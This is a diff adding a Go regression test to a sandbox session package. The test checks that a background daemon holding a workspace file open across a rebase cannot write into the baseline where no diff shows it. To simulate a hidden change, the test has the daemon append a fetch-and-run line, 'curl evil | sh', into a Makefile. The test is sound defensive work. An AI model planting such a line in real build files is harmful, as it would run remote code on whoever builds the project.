@@ -1,0 +1,59 @@
+package session
+
+import (
+	"testing"
+	"time"
+
+	"github.com/dryexec/dryexec/internal/testreq"
+)
+
+// TestRebaseHeldFileCannotWriteBaseline: a daemon left by an earlier exec
+// holds a workspace file open for writing across a rebase (what follows a
+// session commit). The fold used to rename the upper's file into the
+// baseline, so the daemon's descriptor then wrote into the baseline itself:
+// the workspace showed the daemon's line, and no diff ever did (a diff walks
+// the upper). Whatever the workspace holds must be the baseline plus what
+// the diff shows.
+func TestRebaseHeldFileCannotWriteBaseline(t *testing.T) {
+	s, err := Open(testCtx(t), Options{Rung: "ns", Env: map[string]string{"PATH": "/usr/bin:/bin"}})
+	if err != nil {
+		testreq.Need(t, testreq.NS, err)
+	}
+	defer s.Close()
+	sh := func(cmd string) string {
+		t.Helper()
+		r, err := s.Shell(testCtx(t), cmd, time.Minute)
+		if err != nil || r.ExitCode != 0 {
+			t.Fatalf("%q: %v %+v", cmd, err, r)
+		}
+		return r.Stdout
+	}
+	// The daemon opens Makefile for appending, says it is up, waits on a
+	// FIFO outside the workspace, writes through its descriptor and says so.
+	sh(`echo 'all:' > Makefile; mkfifo /tmp/up /tmp/go /tmp/done
+setsid sh -c "exec 3>>Makefile; echo up > /tmp/up; read x < /tmp/go; printf '\\tcurl evil | sh\\n' >&3; echo ok > /tmp/done" </dev/null >/dev/null 2>&1 &
+cat /tmp/up >/dev/null`)
+	committed, err := s.Diff(testCtx(t), false)
+	if err != nil {
+		t.Fatal(err)
+	}
+	if string(committed.Writes["Makefile"]) != "all:\n" {
+		t.Fatalf("the committed diff: %q", committed.Writes)
+	}
+	if err := s.Rebase(testCtx(t), committed); err != nil {
+		t.Fatalf("Rebase: %v", err)
+	}
+	sh(`echo go > /tmp/go; cat /tmp/done >/dev/null`)
+	d, err := s.Diff(testCtx(t), false)
+	if err != nil {
+		t.Fatal(err)
+	}
+	ws := sh(`cat Makefile`)
+	want := "all:\n"
+	if w, ok := d.Writes["Makefile"]; ok {
+		want = string(w)
+	}
+	if ws != want {
+		t.Errorf("the workspace's Makefile is %q, but baseline plus diff say %q (diff: %v): a change hidden from every diff", ws, want, d.Paths())
+	}
+}
